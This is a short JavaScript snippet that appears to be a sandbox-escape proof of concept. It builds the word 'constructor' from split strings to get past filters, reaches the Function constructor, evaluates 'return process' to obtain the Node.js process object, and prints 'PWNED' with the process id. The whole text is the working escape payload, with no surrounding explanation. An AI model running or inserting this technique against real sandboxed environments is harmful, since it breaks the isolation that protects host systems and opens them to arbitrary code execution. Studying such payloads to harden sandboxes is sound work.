const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
function F() { return t; }
console.log('PWNED', new F().go(fn)('return process')().pid);
